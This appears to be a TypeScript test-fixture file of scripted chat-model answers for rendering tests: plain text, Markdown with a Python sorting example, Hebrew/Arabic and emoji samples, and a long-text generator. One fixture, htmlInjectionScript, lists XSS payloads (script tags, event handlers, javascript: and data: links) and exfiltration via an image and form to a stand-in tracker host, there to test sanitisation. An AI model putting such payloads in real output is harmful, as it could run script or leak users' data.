/** A short answer in plain words. */
export const plainScript =
  'Hello. I am a scripted model that runs inside the real engine, and I give the same answer to everybody. ' +
  'My words come one token at a time, so a test can watch them arrive.';

/** Headings, table, list, quotation and a Python code block. */
export const markdownScript = `# Sorting a list

Python sorts **in place** with \`sort()\` or into a new list with \`sorted()\`.

## A small example

\`\`\`python
from dataclasses import dataclass


@dataclass
class Book:
    title: str
    year: int


def newest_first(books: list[Book]) -> list[Book]:
    """Return the books, the newest at the front."""
    return sorted(books, key=lambda book: book.year, reverse=True)
\`\`\`

## When to use which

| Function | Changes the list | Returns |
| --- | :---: | ---: |
| \`list.sort()\` | yes | nothing |
| \`sorted(list)\` | no | a new list |

1. Keep the original when others read it.
2. Sort in place when memory is short.
   - Both are *stable*.
   - Both take \`key\` and \`reverse\`.

> Sorting is stable: equal items keep their order.

See the [Python manual](https://docs.python.org/3/howto/sorting.html) for more.
`;

/** What a hostile or confused model may send: everything here must stay text or be removed. */
export const htmlInjectionScript = `Harmless words before.

<script>window.__leewardInjected = 'script';</script>

<img src="x" onerror="window.__leewardInjected = 'onerror'">

<svg onload="window.__leewardInjected = 'svg'"><circle r="1"/></svg>

<iframe srcdoc="<script>parent.__leewardInjected = 'iframe'</script>"></iframe>

<a href="javascript:window.__leewardInjected='html-link'">a raw link</a>

[a Markdown link](javascript:window.__leewardInjected='md-link)

[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

![a remote picture](https://tracker.invalid/pixel.png?chat=secret)

<style>body { display: none }</style>

<form action="https://tracker.invalid/collect"><input name="secret"><button>Send</button></form>

Harmless words after.
`;

/** Hebrew and Arabic with left-to-right words, digits and a direction mark inside. */
export const rtlScript = `\u05e9\u05dc\u05d5\u05dd, \u05d6\u05d5 \u05ea\u05e9\u05d5\u05d1\u05d4 \u05de\u05d9\u05de\u05d9\u05df \u05dc\u05e9\u05de\u05d0\u05dc \u05e2\u05dd \u05d4\u05de\u05d9\u05dc\u05d4 Leeward \u05d1\u05ea\u05d5\u05db\u05d4.

\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u060c \u0647\u0630\u0627 \u0646\u0635 \u0639\u0631\u0628\u064a \u0645\u0639 \u0627\u0644\u0631\u0642\u0645 42 \u0648\u0627\u0644\u0643\u0644\u0645\u0629 llama.cpp.

- \u05e8\u05d0\u05e9\u05d5\u05df\u200f (1)
- \u05e9\u05e0\u05d9\u200f (2)
`;

/** Emoji with joiners, combining marks and characters outside the first plane. */
export const unicodeScript =
  'Family \u{1F468}\u200D\u{1F469}\u200D\u{1F467}, flag \u{1F1EB}\u{1F1EE}, wave \u{1F44B}\u{1F3FD}, cafe\u0301, \u65e5\u672c\u8a9e, \u{20BB7}\u91ce\u5bb6.';

/** A thinking part for models that reason first. */
export const reasoningScript =
  'The reader asks something short. Two points matter: what is true, and what helps. I will say both plainly.';

/**
 * An answer of exactly `tokens` script tokens: numbered words, a full stop after ten and a paragraph after fifty.
 * Give it to `writeScriptedModel` as it is; each word becomes one token.
 */
export function longScript(tokens: number): string {
  let text = '';
  for (let i = 1; i <= tokens; i++) {
    const separator = i === 1 ? '' : i % 50 === 1 ? '\n\n' : ' ';
    text += `${separator}word${i}${i % 10 === 0 ? '.' : ''}`;
  }
  return text;
}
